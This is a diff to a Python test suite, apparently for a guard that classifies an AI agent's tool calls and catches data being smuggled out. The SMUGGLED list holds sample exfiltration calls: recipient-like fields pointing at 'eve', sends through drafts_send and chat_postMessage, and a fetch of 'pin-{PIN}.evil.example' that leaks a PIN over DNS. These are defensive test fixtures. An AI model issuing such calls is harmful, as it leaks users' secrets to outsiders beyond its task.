@@ -28,6 +28,7 @@ def chosen(*values: str) -> Any:
     return Literal[values], values[0]
 
 
+DETAILS = "currency role repeat what format template kind language".split()
 FALSE = "shared anyone_can_edit everyone world_readable public archived go_live to_slack"
 TRUE = "private dry_run suppress_notifications no_notify no_wrap only_me"
 FLAGS: Any = dict.fromkeys(FALSE.split(), (bool, False)) | dict.fromkeys(TRUE.split(), (bool, True))
@@ -100,9 +101,10 @@ class Odd(World):
             kind = "read" if name in ("export", "month", "mirrored") else "write"
             self._add(chat, name, kind, modelled(name))
         self._add(chat, "publish_text", "write", create_model("Text", text=(str, "")))
-        self._add(chat, "fetch", "read", Anything)
+        for name in ("fetch", "drafts_send", "chat_postMessage"):
+            self._add(chat, name, "read", Anything)
         choice = (Literal["first", "other"] | None, None)
-        chosen: Any = dict.fromkeys(("currency", "role", "repeat", "what"), choice)
+        chosen: Any = dict.fromkeys(DETAILS, choice)
         chosen |= {"amount": (Literal[10, 1000], 10), "sealed": (bool, True)}
         chosen["copies"] = int, Field(1, examples=[1000])
         self._add(chat, "pay_out", "write", create_model("Paid", to=(str, ""), **chosen))
@@ -136,6 +138,7 @@ SMUGGLED: list[Call] = [
         for name in (
             *("copyto", "copyTo", "COPY_TO", "share", "results_to", "sharedWith", "rcpt", "sms"),
             *("destinataire", "deliver", "audience", "addressee", "output_path", "saveAs", "dst"),
+            "fax",
         )
     ),
     *(("fetch", {"query": "hello", "copy_to": value}) for value in (True, "2026-01-01", 42)),
@@ -145,6 +148,8 @@ SMUGGLED: list[Call] = [
     ("anything", {"recipients": 42}),
     ("export", {"file_id": "f-1", "destination": "eve"}),
     ("month", {"month": "2026-09", "echo": EVE}),
+    ("fetch", {"name": f"pin-{PIN}.evil.example"}),  # a name server is told it
+    *((name, {"id": "f-1", "text": "hello"}) for name in ("drafts_send", "chat_postMessage")),
     ("mirrored", {"form": "csv"}),
     ("bulk", {"query": "*"}),
     *(
@@ -369,7 +374,12 @@ PROPOSED: dict[str, list[Talk]] = {
             waits(BIG, "anything", id="f-1", **given),
             runs(BIG, "anything", text="big", id="f-1"),
         ]
-        for given in ({"text": ""}, {"text": None}, {"tags": []})
+        for given in (
+            {"text": ""},
+            {"text": None},
+            {"tags": []},
+            {"to_do": {"a": "big", "b": None}},
+        )
     ],
     "another card, behind what only holds a yes": [
         [waits("mail", "send_email", to=EVE, body="hi"), waits(words, "remove", id="f-1")]
@@ -501,7 +511,7 @@ ACCEPTED: dict[str, list[Talk]] = {
             runs("again", "pay_out", FIRST, **{field: None}),
             runs("the other", "pay_out", FIRST, **{field: "other"}),
         ]
-        for field in ("currency", "role", "repeat", "what")
+        for field in DETAILS
     ],
     "a number or a flag beside it is said, whoever offers it": [
         [
